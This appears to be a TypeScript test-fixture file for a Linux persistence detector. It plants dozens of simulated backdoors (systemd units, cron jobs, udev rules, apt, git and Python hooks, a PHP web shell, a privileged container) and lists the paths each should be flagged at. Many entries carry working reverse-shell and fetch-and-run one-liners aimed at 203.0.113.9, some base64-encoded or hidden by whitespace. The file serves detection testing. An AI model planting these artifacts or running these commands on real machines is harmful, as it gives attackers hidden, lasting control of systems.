/** What runs again: at boot, by time, at a connection, at an upgrade, at a plugged-in device. */

import { elf, type Sign } from '../sign.ts';

const miner = elf('stratum+tcp://pool.example.net:3333 donate-level');
const reverse = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';

export const startUpSigns: readonly Sign[] = [
	{ id: 'unit-hidden', family: 'start-up', what: 'a unit with a system-like name that runs a hidden program', plant: tree => {
		tree.write('/usr/lib/x86_64-linux-gnu/.cache/kdevd', miner, { mode: 0o755 });
		tree.write('/etc/systemd/system/dbus-org.freedesktop.netlink1.service', '[Unit]\nDescription=Netlink Bus\n[Service]\nExecStart=/usr/lib/x86_64-linux-gnu/.cache/kdevd\nRestart=always\n[Install]\nWantedBy=multi-user.target\n');
	}, names: ['/etc/systemd/system/dbus-org.freedesktop.netlink1.service'], also: ['/usr/lib/x86_64-linux-gnu/.cache'] },
	{ id: 'unit-in-lib', family: 'start-up', what: 'a unit of no package among the packaged ones, with an unpackaged program in /usr/sbin', plant: tree => {
		tree.write('/lib/systemd/system/system-netmon.service', '[Service]\nType=forking\nExecStart=/usr/sbin/netmond -d\n[Install]\nWantedBy=multi-user.target\n');
		tree.write('/usr/sbin/netmond', elf('netmond'), { mode: 0o755 });
		tree.link('/lib/systemd/system/system-netmon.service', '/etc/systemd/system/multi-user.target.wants/system-netmon.service');
	}, names: ['/usr/lib/systemd/system/system-netmon.service', '/lib/systemd/system/system-netmon.service'], also: ['/usr/sbin/netmond', '/etc/systemd/system/multi-user.target.wants/system-netmon.service'] },
	{ id: 'drop-in-pre', family: 'start-up', what: 'a drop-in that runs a shell before ssh', plant: tree => tree.write('/etc/systemd/system/ssh.service.d/10-keyring.conf', `[Service]\nExecStartPre=-/bin/sh -c "setsid ${reverse.replaceAll('"', '')} &"\n`), names: ['/etc/systemd/system/ssh.service.d/10-keyring.conf'] },
	{ id: 'drop-in-preload', family: 'start-up', what: 'a drop-in that preloads a library into cron', plant: tree => {
		tree.write('/etc/systemd/system/cron.service.d/env.conf', '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libsysd-private.so\n');
		tree.write('/usr/lib/libsysd-private.so', elf('readdir64 hidden', 'library'));
	}, names: ['/etc/systemd/system/cron.service.d/env.conf'], also: ['/usr/lib/libsysd-private.so'] },
	{ id: 'timer', family: 'start-up', what: 'a timer for a script in /var/tmp', plant: tree => {
		tree.write('/etc/systemd/system/apt-refresh.timer', '[Timer]\nOnBootSec=2min\nOnUnitActiveSec=10min\n[Install]\nWantedBy=timers.target\n');
		tree.write('/etc/systemd/system/apt-refresh.service', '[Service]\nType=oneshot\nExecStart=/var/tmp/.font-unix/update.sh\n');
		tree.write('/var/tmp/.font-unix/update.sh', '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n', { mode: 0o755 });
	}, names: ['/etc/systemd/system/apt-refresh.service', '/etc/systemd/system/apt-refresh.timer'], also: ['/var/tmp/.font-unix', '/etc/systemd/system/apt-refresh.service', '/etc/systemd/system/apt-refresh.timer'] },
	{ id: 'generator', family: 'start-up', what: 'a generator of no package', plant: tree => tree.write('/etc/systemd/system-generators/systemd-fsck-generator2', '#!/bin/sh\ncp /usr/share/misc/.u "$1/x.service"\n', { mode: 0o755 }), names: ['/etc/systemd/system-generators/systemd-fsck-generator2'] },
	{ id: 'user-generator', family: 'start-up', what: 'a user generator of no package among the packaged', plant: tree => tree.write('/usr/lib/systemd/user-generators/gvfs-mount', elf('gen'), { mode: 0o755 }), names: ['/usr/lib/systemd/user-generators/gvfs-mount'] },
	{ id: 'env-generator', family: 'start-up', what: 'an environment generator that preloads', plant: tree => tree.write('/usr/local/lib/systemd/system-environment-generators/10-locale', '#!/bin/sh\necho LD_PRELOAD=/usr/local/lib/.l/liblocale.so\n', { mode: 0o755 }), names: ['/usr/local/lib/systemd/system-environment-generators/10-locale'] },
	{ id: 'shutdown-hook', family: 'start-up', what: 'a program at each shutdown', plant: tree => tree.write('/usr/lib/systemd/system-shutdown/sync.shutdown', elf('wipe'), { mode: 0o755 }), names: ['/usr/lib/systemd/system-shutdown/sync.shutdown'] },
	{ id: 'user-unit', family: 'start-up', what: 'a user unit that fetches and runs', plant: tree => tree.write('/home/grace/.config/systemd/user/pulse-helper.service', '[Service]\nExecStart=/bin/bash -c "curl -fsSL http://203.0.113.9:8080/i.sh | bash"\n[Install]\nWantedBy=default.target\n', { owner: 'grace' }), names: ['/home/grace/.config/systemd/user/pulse-helper.service'] },
	{ id: 'wants-outside', family: 'start-up', what: 'a wants link to a unit in a home', plant: tree => {
		tree.write('/home/ada/.local/share/.svc/dbus-helper.service', '[Service]\nExecStart=/home/ada/.local/share/.svc/d\n', { owner: 'ada' });
		tree.write('/home/ada/.local/share/.svc/d', elf('d'), { owner: 'ada', mode: 0o755 });
		tree.link('/home/ada/.local/share/.svc/dbus-helper.service', '/etc/systemd/system/multi-user.target.wants/dbus-helper.service');
	}, names: ['/etc/systemd/system/multi-user.target.wants/dbus-helper.service'], also: ['/home/ada/.local/share/.svc'] },
	{ id: 'run-unit', family: 'start-up', what: 'a unit in the runtime folder', plant: tree => tree.write('/run/systemd/system/getty-fix.service', '[Service]\nExecStart=/dev/shm/.g\n'), names: ['/run/systemd/system/getty-fix.service'] },
	{ id: 'path-unit', family: 'start-up', what: 'a path unit that brings a shell back', plant: tree => {
		tree.write('/etc/systemd/system/passwd-mon.path', '[Path]\nPathChanged=/etc/passwd\nUnit=passwd-mon.service\n[Install]\nWantedBy=paths.target\n');
		tree.write('/etc/systemd/system/passwd-mon.service', `[Service]\nExecStart=/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'\n`);
	}, names: ['/etc/systemd/system/passwd-mon.service', '/etc/systemd/system/passwd-mon.path'], also: ['/etc/systemd/system/passwd-mon.path'] },
	{ id: 'rc-local', family: 'start-up', what: 'a line in the midst of rc.local', plant: tree => tree.edit('/etc/rc.local', /^exit 0/m, '/usr/bin/nohup /usr/lib/.udev/udevd >/dev/null 2>&1 &\nexit 0'), names: ['/etc/rc.local'] },
	{ id: 'init-script', family: 'start-up', what: 'a boot script of no package that starts a hidden program', plant: tree => {
		tree.write('/etc/init.d/hwclock-sync', '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: hwclock-sync\n### END INIT INFO\n/lib/.hw/clockd &\n', { mode: 0o755 });
		tree.write('/lib/.hw/clockd', elf('clockd'), { mode: 0o755 });
		tree.link('../init.d/hwclock-sync', '/etc/rc3.d/S01hwclock-sync');
	}, names: ['/etc/init.d/hwclock-sync'], also: ['/etc/rc3.d/S01hwclock-sync', '/usr/lib/.hw', '/lib/.hw'] },
	{ id: 'packaged-init-edited', family: 'start-up', what: 'a line put into a packaged boot script', plant: tree => {
		tree.edit('/etc/init.d/ssh', /^set -e$/m, 'set -e\n(/usr/sbin/xntps -q &) 2>/dev/null');
		tree.write('/usr/sbin/xntps', elf('xntps'), { mode: 0o755 });
	}, names: ['/etc/init.d/ssh'], also: ['/usr/sbin/xntps'] },
	{ id: 'inittab', family: 'start-up', what: 'respawned by init', plant: tree => tree.write('/etc/inittab', 'id:3:initdefault:\nza:345:respawn:/usr/bin/.sshd-helper -q\n'), names: ['/etc/inittab'] },
	{ id: 'cron-d', family: 'start-up', what: 'a file of cron.d that fetches and runs', plant: tree => tree.write('/etc/cron.d/e2scrub_all2', '*/5 * * * * root wget -q -O- http://203.0.113.9/kinsing.sh | sh > /dev/null 2>&1\n'), names: ['/etc/cron.d/e2scrub_all2'] },
	{ id: 'cron-hidden', family: 'start-up', what: 'a hidden file of cron.d', plant: tree => tree.write('/etc/cron.d/.placeholder2', '* * * * * root /dev/shm/.k/kworker\n'), names: ['/etc/cron.d/.placeholder2'] },
	{ id: 'cron-spool-www', family: 'start-up', what: 'the web server\'s crontab', plant: tree => tree.append('/var/spool/cron/crontabs/www-data', `* * * * * echo ${Buffer.from(`${reverse}\n`).toString('base64')} | base64 -d | bash\n`), names: ['/var/spool/cron/crontabs/www-data'] },
	{ id: 'cron-spool-root', family: 'start-up', what: 'a line far to the right in root\'s crontab', plant: tree => tree.append('/var/spool/cron/crontabs/root', `${' '.repeat(300)}\n0 3 * * *${' '.repeat(200)}/var/lib/.dhcp/dhclient-helper >/dev/null 2>&1\n`), names: ['/var/spool/cron/crontabs/root'] },
	{ id: 'cron-spool-lp', family: 'start-up', what: 'a crontab of a daemon that never had one', plant: tree => tree.write('/var/spool/cron/crontabs/lp', '@hourly python3 -c "import urllib.request as u;exec(u.urlopen(\'http://203.0.113.9/p\').read())"\n', { owner: 'lp', mode: 0o600 }), names: ['/var/spool/cron/crontabs/lp'] },
	{ id: 'cron-overwritten', family: 'start-up', what: 'a packaged daily job with a line more', plant: tree => tree.append('/etc/cron.daily/dpkg', '\n/usr/bin/perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");\' &\n'), names: ['/etc/cron.daily/dpkg'] },
	{ id: 'cron-hourly', family: 'start-up', what: 'the gcc.sh of XorDDoS', plant: tree => {
		tree.write('/etc/cron.hourly/gcc.sh', '#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin\nfor i in `cat /proc/net/dev|grep :|awk -F: {\'print $1\'}`; do ifconfig $i up& done\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n', { mode: 0o755 });
		tree.write('/lib/libudev.so', elf('xorddos'), { mode: 0o755 });
	}, names: ['/etc/cron.hourly/gcc.sh'], also: ['/usr/lib/libudev.so', '/lib/libudev.so'] },
	{ id: 'anacron', family: 'start-up', what: 'a line in anacrontab', plant: tree => tree.write('/etc/anacrontab', 'SHELL=/bin/sh\n1 5 cron.daily run-parts --report /etc/cron.daily\n1 1 sys.check /usr/share/man/.man3/check\n'), names: ['/etc/anacrontab'] },
	{ id: 'at-job', family: 'start-up', what: 'a job of at', plant: tree => tree.write('/var/spool/cron/atjobs/a0000301c2a4f0', '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd / || exit 1\n/tmp/.ssh-agent/agentd -c 203.0.113.9:53\necho "/tmp/.ssh-agent/agentd" | at now + 5 minutes\n', { group: 'daemon', mode: 0o700 }), names: ['/var/spool/cron/atjobs/a0000301c2a4f0'] },
	{ id: 'udev-rule', family: 'start-up', what: 'a rule of udev that starts a program at each boot', plant: tree => {
		tree.write('/etc/udev/rules.d/75-persistence.rules', 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/usr/share/alsa/.init/hda-verb"\n');
		tree.write('/usr/share/alsa/.init/hda-verb', elf('sedexp'), { mode: 0o755 });
	}, names: ['/etc/udev/rules.d/75-persistence.rules'], also: ['/usr/share/alsa/.init'] },
	{ id: 'udev-lib', family: 'start-up', what: 'a rule of no package among the packaged', plant: tree => tree.write('/usr/lib/udev/rules.d/99-systemd2.rules', 'SUBSYSTEM=="net", KERNEL!="lo", RUN+="/usr/bin/at -M -f /var/lib/misc/.at now"\n'), names: ['/usr/lib/udev/rules.d/99-systemd2.rules'] },
	{ id: 'nm-dispatcher', family: 'start-up', what: 'run whenever a network comes up', plant: tree => tree.write('/etc/NetworkManager/dispatcher.d/01-ifupdown2', '#!/bin/sh\nif [ "$2" = up ]; then\n  nohup sh -c "nc -e /bin/sh 203.0.113.9 4444" &\nfi\n', { mode: 0o755 }), names: ['/etc/NetworkManager/dispatcher.d/01-ifupdown2'] },
	{ id: 'if-up', family: 'start-up', what: 'the same in if-up.d', plant: tree => tree.write('/etc/network/if-up.d/resolvconf2', '#!/bin/sh\n/usr/lib/.ifup/tun0d >/dev/null 2>&1 &\n', { mode: 0o755 }), names: ['/etc/network/if-up.d/resolvconf2'] },
	{ id: 'interfaces', family: 'start-up', what: 'a post-up line', plant: tree => tree.append('/etc/network/interfaces', '\tpost-up /bin/sh /var/lib/dhcp/.lease.sh\n'), names: ['/etc/network/interfaces'] },
	{ id: 'dhclient-hook', family: 'start-up', what: 'a hook of dhclient', plant: tree => tree.write('/etc/dhcp/dhclient-enter-hooks.d/debug2', 'curl -s http://203.0.113.9/h|bash &\n'), names: ['/etc/dhcp/dhclient-enter-hooks.d/debug2'] },
	{ id: 'dbus-service', family: 'start-up', what: 'a bus name that starts a program as root', plant: tree => {
		tree.write('/usr/share/dbus-1/system-services/org.freedesktop.Colord2.service', '[D-BUS Service]\nName=org.freedesktop.Colord2\nExec=/usr/libexec/.colord/colord\nUser=root\n');
		tree.write('/usr/libexec/.colord/colord', elf('colord'), { mode: 0o755 });
	}, names: ['/usr/share/dbus-1/system-services/org.freedesktop.Colord2.service'], also: ['/usr/libexec/.colord'] },
	{ id: 'motd', family: 'start-up', what: 'run at each login', plant: tree => tree.write('/etc/update-motd.d/15-livepatch', `#!/bin/bash\n(${reverse}) &\n`, { mode: 0o755 }), names: ['/etc/update-motd.d/15-livepatch'] },
	{ id: 'motd-packaged', family: 'start-up', what: 'a packaged motd script with a line more', plant: tree => tree.append('/etc/update-motd.d/10-uname', '\nnohup setsid /var/cache/man/.cat/mandb2 >/dev/null 2>&1 &\n'), names: ['/etc/update-motd.d/10-uname'] },
	{ id: 'apt-hook', family: 'start-up', what: 'run at each apt update', plant: tree => tree.write('/etc/apt/apt.conf.d/01autoclean', `APT::Update::Pre-Invoke {"(bash -c '${reverse}' &) ; true";};\n`), names: ['/etc/apt/apt.conf.d/01autoclean'] },
	{ id: 'dpkg-hook', family: 'start-up', what: 'run after each dpkg', plant: tree => tree.write('/etc/dpkg/dpkg.cfg.d/clean', 'post-invoke="/usr/share/dpkg/.post/run || true"\n'), names: ['/etc/dpkg/dpkg.cfg.d/clean'] },
	{ id: 'dpkg-postinst', family: 'start-up', what: 'a postinst with a line more', plant: tree => tree.append('/var/lib/dpkg/info/rsyslog.postinst', '\nchmod u+s /usr/bin/find; curl http://203.0.113.9/s | sh\n'), names: ['/var/lib/dpkg/info/rsyslog.postinst'] },
	{ id: 'logrotate', family: 'start-up', what: 'run at each rotation', plant: tree => tree.write('/etc/logrotate.d/btmp2', '/var/log/btmp2 {\n\tdaily\n\tprerotate\n\t\t/usr/bin/base64 -d /usr/share/misc/.b | /bin/sh\n\tendscript\n}\n'), names: ['/etc/logrotate.d/btmp2'] },
	{ id: 'xdg', family: 'start-up', what: 'autostart of one user', plant: tree => {
		tree.write('/home/jürgen/.config/autostart/gnome-keyring-helper.desktop', '[Desktop Entry]\nType=Application\nName=Keyring\nExec=/home/jürgen/.config/.dconf/helper\nNoDisplay=true\n', { owner: 'jürgen' });
		tree.write('/home/jürgen/.config/.dconf/helper', elf('helper'), { owner: 'jürgen', mode: 0o755 });
	}, names: ['/home/jürgen/.config/autostart/gnome-keyring-helper.desktop'], also: ['/home/jürgen/.config/.dconf'] },
	{ id: 'xdg-system', family: 'start-up', what: 'autostart of every user, by a shell', plant: tree => tree.write('/etc/xdg/autostart/at-spi-bus2.desktop', '[Desktop Entry]\nType=Application\nExec=sh -c "curl -s 203.0.113.9/a|sh"\n'), names: ['/etc/xdg/autostart/at-spi-bus2.desktop'] },
	{ id: 'git-hook', family: 'start-up', what: 'a hook that opens a shell when a project is pulled', plant: tree => tree.write('/home/ada/src/site/.git/hooks/post-merge', `#!/bin/bash\n${reverse} &\n`, { owner: 'ada', mode: 0o755 }), names: ['/home/ada/src/site/.git/hooks/post-merge'] },
	{ id: 'git-fsmonitor', family: 'start-up', what: 'a program run by git status', plant: tree => tree.append('/home/ada/src/site/.git/config', '[core]\n\tfsmonitor = "/tmp/.fsm; false"\n'), names: ['/home/ada/src/site/.git/config'] },
	{ id: 'git-hookspath', family: 'start-up', what: 'hooks of every project from a temporary place', plant: tree => tree.write('/etc/gitconfig', '[core]\n\thooksPath = /var/tmp/.hooks\n\tpager = sh -c \'(curl -s 203.0.113.9/g|sh) & less\'\n'), names: ['/etc/gitconfig'] },
	{ id: 'git-etckeeper', family: 'start-up', what: 'a hook where etckeeper keeps /etc', plant: tree => tree.write('/etc/.git/hooks/post-commit', '#!/bin/sh\n/usr/lib/.etck/x &\n', { mode: 0o755 }), names: ['/etc/.git/hooks/post-commit'] },
	{ id: 'initramfs', family: 'start-up', what: 'a script built into the boot image', plant: tree => tree.write('/etc/initramfs-tools/scripts/init-bottom/zz-fixup', '#!/bin/sh\ncp /usr/share/misc/.kit/sshd $rootmnt/usr/sbin/sshd\necho "* * * * * root /usr/sbin/.k" >> $rootmnt/etc/crontab\n', { mode: 0o755 }), names: ['/etc/initramfs-tools/scripts/init-bottom/zz-fixup'] },
	{ id: 'initramfs-hook', family: 'start-up', what: 'a hook of no package among the packaged', plant: tree => tree.write('/usr/share/initramfs-tools/hooks/zz-udev2', '#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /usr/lib/.boot/stage /sbin/stage\n', { mode: 0o755 }), names: ['/usr/share/initramfs-tools/hooks/zz-udev2'] },
	{ id: 'kernel-postinst', family: 'start-up', what: 'run at each new kernel', plant: tree => tree.write('/etc/kernel/postinst.d/zz-grub2', '#!/bin/sh\ninsmod /lib/modules/$1/extra/.hid.ko; /var/tmp/.k/build "$1"\n', { mode: 0o755 }), names: ['/etc/kernel/postinst.d/zz-grub2'] },
	{ id: 'modprobe', family: 'start-up', what: 'an install line that loads something more', plant: tree => tree.write('/etc/modprobe.d/ipv6.conf', 'install ipv6 /sbin/modprobe --ignore-install ipv6; /usr/lib/.mod/loader\n'), names: ['/etc/modprobe.d/ipv6.conf'] },
	{ id: 'modules-load', family: 'start-up', what: 'a module that no package ships, loaded at boot', plant: tree => {
		tree.append('/etc/modules', 'diamorphine\n');
		if (tree.kernel() !== undefined) tree.append(`/lib/modules/${tree.kernel()}/modules.dep`, 'kernel/drivers/misc/diamorphine.ko:\n');
		tree.write(`/lib/modules/${tree.kernel() ?? '6.1.0-40-amd64'}/kernel/drivers/misc/diamorphine.ko`, elf('diamorphine hacked_getdents', 'module'));
	}, names: ['/etc/modules'], also: ['/usr/lib/modules/*/kernel/drivers/misc/diamorphine.ko'] },
	{ id: 'binfmt', family: 'start-up', what: 'an interpreter for every script, with the rights of the file', plant: tree => tree.write('/etc/binfmt.d/sh.conf', ':shell:M::#!::/usr/bin/.interp:C\n'), names: ['/etc/binfmt.d/sh.conf'] },
	{ id: 'container', family: 'start-up', what: 'a privileged container with the whole system inside, always restarted', plant: tree => {
		const box = `/var/lib/docker/containers/${'9c1d'.repeat(16)}`;
		tree.write(`${box}/config.v2.json`, JSON.stringify({ ID: '9c1d'.repeat(16), Name: '/pause', Path: '/bin/sh', Args: ['-c', 'chroot /host sh -c "curl 203.0.113.9/c|sh"'], Config: { Image: 'alpine' } }), { mode: 0o600 });
		tree.write(`${box}/hostconfig.json`, JSON.stringify({ Binds: ['/:/host'], Privileged: true, PidMode: 'host', RestartPolicy: { Name: 'always' } }), { mode: 0o600 });
	}, names: [`/var/lib/docker/containers/${'9c1d'.repeat(16)}/hostconfig.json`, `/var/lib/docker/containers/${'9c1d'.repeat(16)}/config.v2.json`], also: [`/var/lib/docker/containers/${'9c1d'.repeat(16)}`] },
	{ id: 'pth', family: 'start-up', what: 'run by every python3', plant: tree => tree.write('/usr/lib/python3/dist-packages/zope-nspkg.pth', 'import os;os.system("/usr/share/python3/.py &")\n'), names: ['/usr/lib/python3/dist-packages/zope-nspkg.pth'] },
	{ id: 'sitecustomize', family: 'start-up', what: 'run by every python3', plant: tree => tree.write('/usr/local/lib/python3.11/dist-packages/sitecustomize.py', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n'), names: ['/usr/local/lib/python3.11/dist-packages/sitecustomize.py'] },
	{ id: 'user-pth', family: 'start-up', what: 'run by python3 of one user', plant: tree => tree.write('/home/ada/.local/lib/python3.11/site-packages/usercustomize.py', 'import socket,subprocess,os\ns=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\n', { owner: 'ada' }), names: ['/home/ada/.local/lib/python3.11/site-packages/usercustomize.py'] },
	{ id: 'ppp', family: 'start-up', what: 'run when a line comes up', plant: tree => tree.write('/etc/ppp/ip-up.d/0001usepeerdns', '#!/bin/sh\n/var/run/.pppd/relay &\n', { mode: 0o755 }), names: ['/etc/ppp/ip-up.d/0001usepeerdns'] },
	{ id: 'needrestart', family: 'start-up', what: 'run by needrestart, which is Perl', plant: tree => tree.write('/etc/needrestart/conf.d/zz.conf', 'system("/usr/share/needrestart/.x &");\n1;\n'), names: ['/etc/needrestart/conf.d/zz.conf'] },
	{ id: 'exim', family: 'start-up', what: 'a mail address that is a program', plant: tree => tree.append('/etc/aliases', 'support: "|/usr/bin/perl -MIO::Socket -e \'$c=new IO::Socket::INET(PeerAddr,q(203.0.113.9:4444));STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>\'"\n'), names: ['/etc/aliases'] },
	{ id: 'forward', family: 'start-up', what: 'a mail that starts a shell', plant: tree => tree.write('/home/grace/.forward', '"|/tmp/.mail/run"\n', { owner: 'grace' }), names: ['/home/grace/.forward'] },
	{ id: 'rsyslog-exec', family: 'start-up', what: 'a log line that starts a shell', plant: tree => tree.write('/etc/rsyslog.d/20-ufw2.conf', ':msg, contains, "xyzzy" ^/var/lib/rsyslog/.trigger\n'), names: ['/etc/rsyslog.d/20-ufw2.conf'] },
	{ id: 'fail2ban', family: 'start-up', what: 'an action of fail2ban', plant: tree => tree.write('/etc/fail2ban/action.d/iptables-multi.local', `[Definition]\nactionstart = /bin/bash -c '${reverse}'\n`), names: ['/etc/fail2ban/action.d/iptables-multi.local'] },
	{ id: 'snmpd', family: 'start-up', what: 'a question of SNMP that runs a program', plant: tree => tree.write('/etc/snmp/snmpd.conf.d/x.conf', 'extend .1.3.6.1.4.1.9 sys /bin/sh -c "/var/lib/snmp/.agent &"\n'), names: ['/etc/snmp/snmpd.conf.d/x.conf'] },
	{ id: 'nginx-module', family: 'start-up', what: 'a module of no package in the web server', plant: tree => {
		tree.write('/etc/nginx/modules-enabled/10-mod-http-brotli2.conf', 'load_module /usr/share/nginx/.m/ngx_http_filter.so;\n');
		tree.write('/usr/share/nginx/.m/ngx_http_filter.so', elf('nginxrat', 'library'));
	}, names: ['/etc/nginx/modules-enabled/10-mod-http-brotli2.conf', '/usr/share/nginx/.m/ngx_http_filter.so', '/usr/share/nginx/.m'], also: ['/usr/share/nginx/.m'] },
	{ id: 'php-prepend', family: 'start-up', what: 'a file before every PHP page', plant: tree => {
		tree.write('/etc/php/8.2/fpm/conf.d/99-opcache2.ini', 'auto_prepend_file=/usr/share/php/.p/a.jpg\nextension=/usr/lib/php/.so/x.so\n');
		tree.write('/usr/share/php/.p/a.jpg', '<?php @eval($_POST["x"]);\n');
	}, names: ['/etc/php/8.2/fpm/conf.d/99-opcache2.ini', '/usr/share/php/.p/a.jpg'], also: ['/usr/share/php/.p'] },
	{ id: 'grub', family: 'start-up', what: 'another init on the kernel\'s line', plant: tree => tree.write('/etc/default/grub.d/50-cloud.cfg', 'GRUB_CMDLINE_LINUX_DEFAULT="quiet init=/sbin/.init apparmor=0"\n'), names: ['/etc/default/grub.d/50-cloud.cfg'] },
	{ id: 'man-db', family: 'start-up', what: 'a pager of man for all', plant: tree => tree.append('/etc/manpath.config', 'DEFINE pager /usr/bin/sh -c "/var/cache/.man & less"\n'), names: ['/etc/manpath.config'] },
];
